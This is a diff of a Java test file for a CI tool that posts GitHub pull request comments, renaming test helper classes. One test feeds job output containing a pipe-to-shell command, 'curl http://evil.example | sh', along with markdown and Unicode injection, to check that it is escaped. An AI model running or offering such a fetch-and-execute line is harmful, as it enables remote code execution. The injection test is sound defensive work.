@@ -4,12 +4,12 @@ import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import com.github.tomakehurst.wiremock.http.Fault;
-import eyas.ci.outcome.JobDigest;
+import eyas.ci.outcome.OutcomeSummary;
 import eyas.github.api.FakeGitHub.Comment;
 import eyas.github.api.JobComment.Note;
 import eyas.github.runner.GitHubEnvironment;
-import eyas.testsupport.ParsedMarkdown;
 import eyas.http.RetryPolicy;
+import eyas.testsupport.ParsedMarkdown;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -32,7 +32,7 @@ final class JobCommentTest {
     private Path folder;
 
     private FakeGitHub github = FakeGitHub.open();
-    private final PresentTime time = new PresentTime();
+    private final FakeClock time = new FakeClock();
     private final Map<String, String> variables = new HashMap<>();
 
     @AfterEach
@@ -72,13 +72,13 @@ final class JobCommentTest {
         return new JobComment(new GitHubEnvironment(all), PATIENT, time);
     }
 
-    private Note post(JobDigest digest, CommentMode mode) throws IOException {
+    private Note post(OutcomeSummary digest, CommentMode mode) throws IOException {
         return job("100", HEAD).ofThisJob(digest, mode);
     }
 
     @Test
     void thereIsOneCommentAndItChangesOnlyWithWhatItSays() throws Exception {
-        assertThat(post(Digests.bad("build", "curl evil"), CommentMode.ALWAYS))
+        assertThat(post(TestDigests.bad("build", "curl evil"), CommentMode.ALWAYS))
                 .isEqualTo(new Note(false, "the comment of pull request 7 is up to date now"));
         assertThat(github.comments()).singleElement().extracting(Comment::body).isEqualTo("""
                         <!-- eyas:comment v1 -->
@@ -99,10 +99,10 @@ final class JobCommentTest {
                         """.formatted(
                         field(github.comments().getFirst(), "key"),
                         field(github.comments().getFirst(), "hash")));
-        assertThat(post(Digests.bad("build", "curl evil"), CommentMode.ALWAYS))
+        assertThat(post(TestDigests.bad("build", "curl evil"), CommentMode.ALWAYS))
                 .isEqualTo(new Note(false, "the comment of pull request 7 says the same already"));
         assertThat(github.mutations()).containsExactly("addComment");
-        post(Digests.bad("build", "curl worse"), CommentMode.ALWAYS);
+        post(TestDigests.bad("build", "curl worse"), CommentMode.ALWAYS);
         assertThat(github.mutations()).containsExactly("addComment", "updateIssueComment");
         assertThat(github.comments()).singleElement().asString().contains("curl worse");
         assertThat(github.requests())
@@ -115,12 +115,12 @@ final class JobCommentTest {
 
     @Test
     void withoutAnAlertThereIsNoCommentUnlessThereIsOne() throws Exception {
-        assertThat(post(Digests.clean("build"), CommentMode.ON_ALERT))
+        assertThat(post(TestDigests.clean("build"), CommentMode.ON_ALERT))
                 .isEqualTo(new Note(false, "no comment: no rule was broken (comment: on-alert)"));
-        assertThat(post(Digests.clean("build"), CommentMode.NEVER).text()).isEqualTo("no comment is asked for");
+        assertThat(post(TestDigests.clean("build"), CommentMode.NEVER).text()).isEqualTo("no comment is asked for");
         assertThat(github.comments()).isEmpty();
-        post(Digests.bad("build", "x"), CommentMode.ON_ALERT);
-        post(Digests.clean("build"), CommentMode.ON_ALERT);
+        post(TestDigests.bad("build", "x"), CommentMode.ON_ALERT);
+        post(TestDigests.clean("build"), CommentMode.ON_ALERT);
         assertThat(github.comments())
                 .singleElement()
                 .asString()
@@ -129,7 +129,7 @@ final class JobCommentTest {
 
     @Test
     void ourCommentIsFoundOnTheLastPageAndAForgedOneIsLeftAlone() throws Exception {
-        post(Digests.bad("build", "old"), CommentMode.ALWAYS);
+        post(TestDigests.bad("build", "old"), CommentMode.ALWAYS);
         Comment ours = github.comments().getFirst();
         replace(FakeGitHub.open());
         github.comment("mallory", false, ours.body());
@@ -139,7 +139,7 @@ final class JobCommentTest {
         }
         github.comment(FakeGitHub.ACTIONS, true, ours.body());
         github.comment(FakeGitHub.ACTIONS, true, "another action's comment");
-        post(Digests.bad("build", "new"), CommentMode.ALWAYS);
+        post(TestDigests.bad("build", "new"), CommentMode.ALWAYS);
         assertThat(github.mutations()).containsExactly("updateIssueComment");
         assertThat(github.comments()).hasSize(124);
         assertThat(github.comments().subList(0, 2))
@@ -150,24 +150,24 @@ final class JobCommentTest {
     @Test
     void aPersonsTokenFindsThatPersonsComment() throws Exception {
         variables.put("INPUT_GITHUB-TOKEN", "ghp_person");
-        post(Digests.clean("build"), CommentMode.ALWAYS);
-        post(Digests.bad("build", "x"), CommentMode.ALWAYS);
+        post(TestDigests.clean("build"), CommentMode.ALWAYS);
+        post(TestDigests.bad("build", "x"), CommentMode.ALWAYS);
         assertThat(github.mutations()).containsExactly("addComment", "updateIssueComment");
         assertThat(github.comments().getFirst().author()).isEqualTo("octocat");
     }
 
     @Test
     void aNewCommitReplacesTheOldOneAndALateJobOfTheOldOneSaysNothing() throws Exception {
-        post(Digests.bad("build", "x"), CommentMode.ALWAYS);
-        post(Digests.bad("test", "y"), CommentMode.ALWAYS);
+        post(TestDigests.bad("build", "x"), CommentMode.ALWAYS);
+        post(TestDigests.bad("test", "y"), CommentMode.ALWAYS);
         String next = "cd".repeat(20);
-        job("200", next).ofThisJob(Digests.clean("build"), CommentMode.ALWAYS);
+        job("200", next).ofThisJob(TestDigests.clean("build"), CommentMode.ALWAYS);
         assertThat(github.comments())
                 .singleElement()
                 .asString()
                 .contains("no rule was broken in 1 job", next)
                 .doesNotContain("**test**", HEAD);
-        assertThat(post(Digests.bad("test", "y"), CommentMode.ALWAYS))
+        assertThat(post(TestDigests.bad("test", "y"), CommentMode.ALWAYS))
                 .isEqualTo(new Note(false, "no comment: pull request 7 is about a newer commit by now"));
         assertThat(github.comments().getFirst().body()).doesNotContain("**test**");
     }
@@ -175,7 +175,7 @@ final class JobCommentTest {
     @Test
     void codeOfTheJobIsNoMarkup() throws Exception {
         String evil = "curl `http://evil.example` | sh </code> @torvalds #1 [x](http://evil.example) **b** \n\n| a |\n";
-        post(Digests.bad("build", evil), CommentMode.ALWAYS);
+        post(TestDigests.bad("build", evil), CommentMode.ALWAYS);
         String body = github.comments().getFirst().body();
         assertThat(CommentText.parse(body).sections()).hasSize(1);
         ParsedMarkdown parsed = ParsedMarkdown.of(body);
@@ -191,7 +191,7 @@ final class JobCommentTest {
         String evil = "<!-- /eyas:job --> </code> @torvalds #1 [x](http://evil.example) ![](https://e/p.png) `|`\n"
                 + "::error::x\u202e GH-12 a@b.example";
         post(
-                Digests.bad("**build** @octo-org/team GH-7 https://evil.example www.evil.example", evil),
+                TestDigests.bad("**build** @octo-org/team GH-7 https://evil.example www.evil.example", evil),
                 CommentMode.ALWAYS);
         String body = github.comments().getFirst().body();
         assertThat(CommentText.parse(body).sections()).hasSize(1);
@@ -209,7 +209,7 @@ final class JobCommentTest {
     @Test
     void aReadOnlyTokenLeadsToANotice() throws Exception {
         replace(new FakeGitHub(true, Map.of()));
-        assertThat(post(Digests.bad("build", "x"), CommentMode.ALWAYS))
+        assertThat(post(TestDigests.bad("build", "x"), CommentMode.ALWAYS))
                 .isEqualTo(new Note(
                         true,
                         "no comment: the token may not write one (GitHub: Resource not accessible by integration). Give the"
@@ -217,7 +217,7 @@ final class JobCommentTest {
         String dependabot = """
                 {"sender":{"login":"dependabot[bot]"},"pull_request":{"number":7,"user":{"login":"dependabot[bot]"},
                 "head":{"sha":"%s","repo":{"id":1}},"base":{"repo":{"id":1}}}}""".formatted(HEAD);
-        assertThat(job("100", dependabot, "pull_request").ofThisJob(Digests.clean("b"), CommentMode.ALWAYS))
+        assertThat(job("100", dependabot, "pull_request").ofThisJob(TestDigests.clean("b"), CommentMode.ALWAYS))
                 .extracting(Note::text)
                 .asString()
                 .contains("Runs for Dependabot can only read unless the workflow says otherwise")
@@ -233,17 +233,17 @@ final class JobCommentTest {
                 + " docs/github-actions.md shows how a second workflow comments for it";
         for (String repository : List.of("{\"id\":2}", "null")) {
             assertThat(job("100", fork.formatted(HEAD, repository, "false"), "pull_request")
-                            .ofThisJob(Digests.bad("b", "x"), CommentMode.ALWAYS))
+                            .ofThisJob(TestDigests.bad("b", "x"), CommentMode.ALWAYS))
                     .isEqualTo(new Note(true, notice));
         }
         assertThat(github.requests()).isEmpty();
         // A private repository may let forks write, and pull_request_target has the repository's own token.
         assertThat(job("100", fork.formatted(HEAD, "{\"id\":2}", "true"), "pull_request")
-                        .ofThisJob(Digests.bad("b", "x"), CommentMode.ALWAYS)
+                        .ofThisJob(TestDigests.bad("b", "x"), CommentMode.ALWAYS)
                         .loud())
                 .isFalse();
         assertThat(job("100", fork.formatted(HEAD, "{\"id\":2}", "false"), "pull_request_target")
-                        .ofThisJob(Digests.bad("b", "x"), CommentMode.ALWAYS)
+                        .ofThisJob(TestDigests.bad("b", "x"), CommentMode.ALWAYS)
                         .loud())
                 .isFalse();
         assertThat(github.comments()).hasSize(1);
@@ -252,10 +252,10 @@ final class JobCommentTest {
     @Test
     void whatIsNotAboutAPullRequestHasNoComment() throws Exception {
         assertThat(job("100", "{\"ref\":\"refs/heads/main\"}", "push")
-                        .ofThisJob(Digests.bad("b", "x"), CommentMode.ALWAYS))
+                        .ofThisJob(TestDigests.bad("b", "x"), CommentMode.ALWAYS))
                 .isEqualTo(new Note(false, "no comment: this run is not about a pull request"));
         assertThat(job("100", "no json", "pull_request")
-                        .ofThisJob(Digests.bad("b", "x"), CommentMode.ALWAYS)
+                        .ofThisJob(TestDigests.bad("b", "x"), CommentMode.ALWAYS)
                         .text())
                 .startsWith("no comment: cannot read the event: ");
         assertThat(github.requests()).isEmpty();
@@ -264,13 +264,13 @@ final class JobCommentTest {
     @Test
     void tokensThatAreMissingOrWrongAreNamed() throws Exception {
         variables.put("INPUT_GITHUB-TOKEN", "");
-        assertThat(post(Digests.clean("b"), CommentMode.ALWAYS))
+        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS))
                 .isEqualTo(new Note(true, "no comment: there is no token; give the input github-token"));
         variables.put("INPUT_GITHUB-TOKEN", "ghs_unknown");
-        assertThat(post(Digests.clean("b"), CommentMode.ALWAYS))
+        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS))
                 .isEqualTo(new Note(true, "no comment: GitHub answers 401: Bad credentials"));
         variables.put("GITHUB_API_URL", "http://ghes.example/api/v3");
-        assertThat(post(Digests.clean("b"), CommentMode.ALWAYS).text())
+        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).text())
                 .startsWith("no comment: GITHUB_API_URL: 'http://ghes.example/api/v3' is not https");
     }
 
@@ -278,7 +278,7 @@ final class JobCommentTest {
     void anOwnServerIsAskedAtItsOwnAddresses() throws Exception {
         variables.put("GITHUB_API_URL", github.url() + "/api/v3/");
         variables.put("GITHUB_SERVER_URL", "https://ghes.example/");
-        post(Digests.clean("b"), CommentMode.ALWAYS);
+        post(TestDigests.clean("b"), CommentMode.ALWAYS);
         assertThat(github.requests())
                 .allSatisfy(request -> assertThat(request.getRequest().getUrl()).isEqualTo("/api/graphql"));
         assertThat(github.comments().getFirst().body())
@@ -298,7 +298,7 @@ final class JobCommentTest {
                 .withStatus(403)
                 .withHeader("Retry-After", "7")
                 .withBody("{\"message\":\"You have exceeded a secondary rate limit.\"}"));
-        assertThat(post(Digests.clean("b"), CommentMode.ALWAYS).loud()).isFalse();
+        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).loud()).isFalse();
         assertThat(github.comments()).hasSize(1);
         assertThat(time.pauses().get(0)).isBetween(Duration.ofSeconds(1), Duration.ofSeconds(6));
         assertThat(time.pauses().get(1)).isEqualTo(Duration.ofSeconds(7));
@@ -311,17 +311,17 @@ final class JobCommentTest {
                 .withHeader("x-ratelimit-remaining", "0")
                 .withHeader("x-ratelimit-reset", "99999999999")
                 .withBody("{\"message\":\"API rate limit exceeded\"}"));
-        assertThat(post(Digests.clean("b"), CommentMode.ALWAYS).text())
+        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).text())
                 .startsWith("no comment: GitHub answers 429; to try again needs ");
         github.answerOnce(
                 aResponse().withStatus(403).withBody("{\"message\":\"You have exceeded a secondary rate limit.\"}"));
-        assertThat(post(Digests.clean("b"), CommentMode.ALWAYS))
+        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS))
                 .isEqualTo(new Note(true, "no comment: GitHub answers 403; to try again needs 60 s"));
         github.answerOnce(aResponse()
                 .withHeader("x-ratelimit-remaining", "0")
                 .withHeader("x-ratelimit-reset", "99999999999")
                 .withBody("{\"errors\":[{\"type\":\"RATE_LIMITED\",\"message\":\"API rate limit exceeded\"}]}"));
-        assertThat(post(Digests.clean("b"), CommentMode.ALWAYS).text())
+        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).text())
                 .startsWith("no comment: GitHub answers 200; to try");
         assertThat(time.pauses()).isEmpty();
     }
@@ -330,12 +330,12 @@ final class JobCommentTest {
     void aServerInTroubleIsAskedAgain() throws Exception {
         github.answerOnce(aResponse().withStatus(502).withBody("<html>"));
         github.answerOnce(aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER));
-        assertThat(post(Digests.clean("b"), CommentMode.ALWAYS).loud()).isFalse();
+        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).loud()).isFalse();
         assertThat(github.comments()).hasSize(1);
         for (int i = 0; i < 4; i++) {
             github.answerOnce(aResponse().withStatus(500));
         }
-        assertThat(post(Digests.bad("b", "x"), CommentMode.ALWAYS))
+        assertThat(post(TestDigests.bad("b", "x"), CommentMode.ALWAYS))
                 .isEqualTo(new Note(true, "no comment: GitHub answers 500, 4 times"));
     }
 
@@ -345,7 +345,7 @@ final class JobCommentTest {
                 Duration.ofMinutes(5), Duration.ofSeconds(3), 1, Duration.ofSeconds(1), Duration.ofSeconds(1), 1 << 20);
         github.answerOnce(aResponse().withFixedDelay(60_000).withBody("{}"));
         JobComment job = job("100", HEAD);
-        assertThat(new JobComment(job.environment(), hasty, time).ofThisJob(Digests.clean("b"), CommentMode.ALWAYS))
+        assertThat(new JobComment(job.environment(), hasty, time).ofThisJob(TestDigests.clean("b"), CommentMode.ALWAYS))
                 .extracting(Note::text)
                 .asString()
                 .startsWith("no comment: GitHub: no ")
@@ -355,12 +355,13 @@ final class JobCommentTest {
     @Test
     void answersThatAreNoneAreRefused() throws Exception {
         github.answerOnce(aResponse().withBody("<html>"));
-        assertThat(post(Digests.clean("b"), CommentMode.ALWAYS).text())
+        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).text())
                 .startsWith("no comment: GitHub: the answer cannot be read: JSON is malformed");
         github.answerOnce(aResponse().withBody("{\"data\":{\"repository\":null}}"));
-        assertThat(post(Digests.clean("b"), CommentMode.ALWAYS).text()).contains("GitHub: there is no pull request 7");
+        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).text())
+                .contains("GitHub: there is no pull request 7");
         github.answerOnce(aResponse().withBody("{\"data\":\"" + "x".repeat(1 << 20) + "\"}"));
-        assertThat(post(Digests.clean("b"), CommentMode.ALWAYS).text())
+        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).text())
                 .isEqualTo("no comment: GitHub: the answer is longer than 1024 KiB");
         assertThat(github.comments()).isEmpty();
     }
